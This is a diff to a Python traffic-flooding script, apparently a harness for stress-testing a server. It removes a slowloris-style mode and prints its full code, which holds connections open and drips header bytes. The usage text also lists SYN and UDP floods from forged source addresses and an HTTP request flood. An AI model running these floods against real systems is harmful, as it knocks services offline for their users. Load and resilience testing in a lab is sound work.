@@ -5,7 +5,6 @@ flood.py honest ADDRESS PORT HOST RATE SECONDS   open loop: a page on a new conn
                                                  Prints "ASKED ANSWERED P50_MS P99_MS"
 flood.py syn|udp ADDRESS PORT RATE SECONDS       packets from forged addresses, none twice soon
 flood.py http ADDRESS PORT HOST RATE SECONDS     requests from four addresses, answers unread
-flood.py slow ADDRESS PORT HOST COUNT SECONDS    connections from four addresses that each send a byte of a head now and then
 """
 import asyncio, random, socket, struct, sys, time
 
@@ -94,37 +93,14 @@ def http(address, port, host, rate, seconds):
     print(paced(rate, seconds, step))
 
 
-def slow(address, port, host, count, seconds):
-    end, conns = time.monotonic() + seconds, []
-    while time.monotonic() < end:
-        while len(conns) < count:
-            s = hostile(len(conns))
-            s.connect_ex((address, port))
-            conns.append([s, b"GET /page.html HTTP/1.1\r\nHost: %s\r\nX-Slow: " % host.encode()])
-        for c in conns:
-            try:
-                c[0].send(c[1])
-                c[1] = b"a"
-            except BlockingIOError:
-                pass
-            except OSError:
-                c[0].close()
-                c[0], c[1] = hostile(conns.index(c)), b"GET /page.html HTTP/1.1\r\nHost: %s\r\nX-Slow: " % host.encode()
-                c[0].connect_ex((address, port))
-        time.sleep(0.5)
-    print(len(conns))
-
-
 def main():
     kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     if kind == "honest":
         asyncio.run(honest(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6])))
     elif kind in ("syn", "udp"):
         forged(kind, address, port, float(sys.argv[4]), float(sys.argv[5]))
-    elif kind == "http":
-        http(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6]))
     else:
-        slow(address, port, sys.argv[4], int(sys.argv[5]), float(sys.argv[6]))
+        http(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6]))
 
 
 main()
